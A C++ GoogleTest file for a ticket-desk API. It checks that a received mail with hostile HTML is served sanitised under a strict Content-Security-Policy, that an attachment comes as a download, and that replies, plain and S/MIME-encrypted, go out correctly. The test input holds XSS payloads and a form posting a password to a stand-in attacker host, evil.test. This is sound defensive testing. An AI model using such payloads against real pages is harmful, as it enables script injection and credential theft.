// Tickets through the API: a received mail with hostile HTML (script, event handlers, a remote
// image, a form, CSS url(), a javascript: link) reaches the page with none of it active (the
// served document and its own CSP), an attachment is served as a download, and a reply from the
// editor goes out with its report.
#include <gtest/gtest.h>

#include "support/openssl_cli.h"
#include "web/served_desk.h"

namespace casecrypt::test {
namespace {

const std::string kHostileHtml =
    "<html><head><style>body { background: url(http://evil.test/bg.png) }</style>"
    "<script>alert(1)</script></head>"
    "<body onload=\"alert(2)\"><p onclick=\"alert(3)\" style=\"background-image: "
    "url('http://evil.test/p.png')\">Hello</p>"
    "<img src=\"http://evil.test/track.gif\" onerror=\"alert(4)\">"
    "<form action=\"http://evil.test/steal\"><input name=\"password\"></form>"
    "<a href=\"javascript:alert(5)\">click</a> "
    "<a href=\"https://example.test/help?a=1&amp;b=2\">help</a>"
    "<iframe src=\"http://evil.test/frame\"></iframe><svg onload=\"alert(6)\"></svg>"
    "</body></html>";

std::string hostile_mail() {
    return "From: Carl Customer <carl@customer.test>\nTo: Support <support@example.test>\n"
           "Subject: Look at this\nMessage-ID: <hostile@customer.test>\n"
           "Date: Sat, 28 Nov 2026 08:00:00 +0000\nMIME-Version: 1.0\n"
           "Content-Type: multipart/mixed; boundary=\"b1\"\n\n"
           "--b1\nContent-Type: multipart/alternative; boundary=\"b2\"\n\n"
           "--b2\nContent-Type: text/plain; charset=utf-8\n\nHello <script>\n"
           "--b2\nContent-Type: text/html; charset=utf-8\n\n" +
           kHostileHtml +
           "\n--b2--\n"
           "--b1\nContent-Type: text/html; name=\"page.html\"\n"
           "Content-Disposition: attachment; filename=\"page.html\"\n\n"
           "<script>alert(7)</script>\n--b1--\n";
}

TEST(TicketRoutes, HostileHtmlReachesThePageWithNoneOfItActive) {
    ServedDesk served;
    served.desk().drop("hostile", hostile_mail());
    const auto fetched = served.desk().fetch();
    ASSERT_EQ(fetched.exit_code, 0) << fetched.out << fetched.err;
    const auto engineer = served.user("erin", "engineer");
    auto c = served.client();

    const auto tickets = ServedDesk::json(c.Get("/api/tickets", engineer.headers()));
    ASSERT_EQ(tickets.size(), 1u) << tickets.dump();
    EXPECT_EQ(tickets[0]["encrypted"], false);
    const long long number = tickets[0]["number"];
    const auto ticket_answer = c.Get("/api/tickets/" + std::to_string(number), engineer.headers());
    ASSERT_TRUE(ticket_answer);
    ASSERT_EQ(ticket_answer->status, 200) << ticket_answer->body;
    const auto ticket = ServedDesk::json(ticket_answer);
    ASSERT_EQ(ticket["messages"].size(), 1u);
    const auto& message = ticket["messages"][0];
    ASSERT_TRUE(message["html_url"].is_string()) << message.dump();
    // The links, for the page to show before it opens one; no javascript: among them.
    const auto links = message["links"];
    EXPECT_NE(std::find(links.begin(), links.end(), "https://example.test/help?a=1&b=2"),
              links.end())
        << links.dump();
    for (const auto& link : links)
        EXPECT_EQ(link.get<std::string>().find("javascript:"), std::string::npos) << link;

    const auto html = c.Get(message["html_url"].get<std::string>(), engineer.headers());
    ASSERT_TRUE(html);
    ASSERT_EQ(html->status, 200) << html->body;
    EXPECT_EQ(html->get_header_value("Content-Type"), "text/html; charset=utf-8");
    const std::string policy = html->get_header_value("Content-Security-Policy");
    EXPECT_EQ(html->get_header_value_count("Content-Security-Policy"), 1u);
    EXPECT_NE(policy.find("default-src 'none'"), std::string::npos) << policy;
    EXPECT_NE(policy.find("sandbox"), std::string::npos) << policy;
    EXPECT_NE(policy.find("img-src data:"), std::string::npos) << policy;
    EXPECT_EQ(policy.find("script-src"), std::string::npos) << policy;
    EXPECT_EQ(html->get_header_value("X-Content-Type-Options"), "nosniff");
    std::string body = html->body;
    for (auto& ch : body)
        ch = static_cast<char>(std::tolower(static_cast<unsigned char>(ch)));
    EXPECT_NE(body.find("hello"), std::string::npos) << body;
    for (const char* active : {"<script", "onload", "onclick", "onerror", "evil.test", "<form",
                               "<input", "url(", "javascript:", "<iframe", "<svg", "<style"}) {
        EXPECT_EQ(body.find(active), std::string::npos) << active << " in " << html->body;
    }
    EXPECT_NE(body.find("<base target=\"_blank\">"), std::string::npos) << body;

    // The attachment comes as a download, never as a page of ours.
    ASSERT_EQ(message["attachments"].size(), 1u) << message.dump();
    const auto attachment =
        c.Get(message["attachments"][0]["url"].get<std::string>(), engineer.headers());
    ASSERT_TRUE(attachment);
    EXPECT_EQ(attachment->status, 200);
    EXPECT_EQ(attachment->get_header_value("Content-Type"), "application/octet-stream");
    EXPECT_EQ(attachment->get_header_value("Content-Disposition").rfind("attachment;", 0), 0u)
        << attachment->get_header_value("Content-Disposition");
    EXPECT_NE(attachment->get_header_value("Content-Disposition").find("page.html"),
              std::string::npos);
}

TEST(TicketRoutes, AReplyFromTheEditorGoesOutWithItsReport) {
    ServedDesk served;
    served.desk().drop("1", plain_mail("Printer on fire", "first@customer.test"));
    ASSERT_EQ(served.desk().fetch().exit_code, 0);
    const auto engineer = served.user("erin", "engineer");
    auto c = served.client();
    const auto sent = c.Post("/api/tickets/1/mails", engineer.headers(true),
                             nlohmann::json{{"to", "carl@customer.test"},
                                            {"subject", "Re: Printer on fire"},
                                            {"text", "Use water."}}
                                 .dump(),
                             "application/json");
    ASSERT_TRUE(sent);
    ASSERT_EQ(sent->status, 201) << sent->body;
    const auto report = ServedDesk::json(sent);
    EXPECT_EQ(report["encrypted"], false) << report.dump();
    EXPECT_EQ(report["recipients"][0]["address"], "carl@customer.test");
    const auto ticket = ServedDesk::json(c.Get("/api/tickets/1", engineer.headers()));
    ASSERT_EQ(ticket["messages"].size(), 2u) << ticket.dump();
    EXPECT_EQ(ticket["messages"][1]["direction"], "out");
    EXPECT_EQ(ticket["messages"][1]["from"], "support@example.test");
    EXPECT_EQ(ticket["messages"][1]["subject"], "[Ticket (1)] Re: Printer on fire");

    // Multipart with a file, as the editor's form sends it.
    httplib::MultipartFormDataItems items = {{"to", "carl@customer.test", "", ""},
                                             {"subject", "Re: Printer on fire", "", ""},
                                             {"text", "The manual is attached.", "", ""},
                                             {"encrypt", "false", "", ""},
                                             {"files", "manual text", "manual.txt", "text/plain"}};
    const auto with_file = c.Post("/api/tickets/1/mails", engineer.headers(true), items);
    ASSERT_TRUE(with_file);
    ASSERT_EQ(with_file->status, 201) << with_file->body;
    const auto after = ServedDesk::json(c.Get("/api/tickets/1", engineer.headers()));
    ASSERT_EQ(after["messages"].size(), 3u);
    ASSERT_EQ(after["messages"][2]["attachments"].size(), 1u) << after.dump();
    EXPECT_EQ(after["messages"][2]["attachments"][0]["name"], "manual.txt");

    const auto no_recipient = c.Post("/api/tickets/1/mails", engineer.headers(true),
                                     R"({"subject":"x","text":"y"})", "application/json");
    ASSERT_TRUE(no_recipient);
    EXPECT_EQ(no_recipient->status, 400) << no_recipient->body;
    const auto no_ticket =
        c.Post("/api/tickets/99/mails", engineer.headers(true),
               R"({"to":"carl@customer.test","subject":"x","text":"y"})", "application/json");
    ASSERT_TRUE(no_ticket);
    EXPECT_EQ(no_ticket->status, 404) << no_ticket->body;
}

TEST(TicketRoutes, AnEncryptedReplyOpensWithOpensslAndAnUncheckedOneGoesPlain) {
    ServedDesk served;
    served.desk().drop("1",
                       "From: Alice <alice@example.test>\nTo: support@example.test\n"
                       "Subject: Key question\nMessage-ID: <k1@example.test>\n"
                       "Date: Sat, 28 Nov 2026 08:00:00 +0000\n\nHello\n");
    ASSERT_EQ(served.desk().fetch().exit_code, 0);
    const auto admin = served.admin();
    auto c = served.client();
    httplib::MultipartFormDataItems items = {
        {"file", slurp(fx("client/ok-rsa2048-dn-email.pem")), "alice.pem", "text/plain"}};
    ASSERT_EQ(c.Post("/api/certificates/client", admin.headers(true), items)->status, 201);
    ASSERT_EQ(c.Put("/api/properties/cmas-core-server/mail.encryption", admin.headers(true),
                    R"({"value":"true"})", "application/json")
                  ->status,
              200);
    const auto engineer = served.user("erin", "engineer");
    const auto sent = c.Post("/api/tickets/1/mails", engineer.headers(true),
                             R"({"to":"alice@example.test","subject":"Re","text":"Secret answer"})",
                             "application/json");
    ASSERT_TRUE(sent);
    ASSERT_EQ(sent->status, 201) << sent->body;
    const auto report = ServedDesk::json(sent);
    EXPECT_EQ(report["encrypted"], true) << report.dump();
    EXPECT_EQ(report["recipients"][0]["outcome"], "encrypted") << report.dump();
    EXPECT_FALSE(report["recipients"][0]["certificate"]["fingerprint_sha256"].is_null());
    const long long id = report["outbox_ids"][0];
    const auto file = std::filesystem::path(served.desk().data()) / "mail" / "outgoing" /
                      (std::to_string(id) + ".eml");
    ASSERT_TRUE(std::filesystem::exists(file)) << report.dump();
    const std::string plain = shell("openssl cms -decrypt -in " + quote(file.string()) +
                                    " -inkey " + quote(fx("keys/alice.key")));
    EXPECT_NE(plain.find("Secret answer"), std::string::npos) << plain;
    const auto listed = ServedDesk::json(c.Get("/api/tickets", engineer.headers()));
    ASSERT_EQ(listed.size(), 1u);
    EXPECT_EQ(listed[0]["encrypted"], true) << "the list's lock: " << listed.dump();
    const auto history = ServedDesk::json(c.Get("/api/tickets/1", engineer.headers()));
    ASSERT_EQ(history["messages"].size(), 2u);
    EXPECT_EQ(history["messages"][1]["encrypted"], true) << history.dump();
    EXPECT_EQ(history["messages"][1]["report"][0]["address"], "alice@example.test");

    const auto unchecked = c.Post(
        "/api/tickets/1/mails", engineer.headers(true),
        R"({"to":"alice@example.test","subject":"Re","text":"Plain answer","encrypt":false})",
        "application/json");
    ASSERT_TRUE(unchecked);
    ASSERT_EQ(unchecked->status, 201) << unchecked->body;
    EXPECT_EQ(ServedDesk::json(unchecked)["encrypted"], false) << unchecked->body;
}

}  // namespace
}  // namespace casecrypt::test
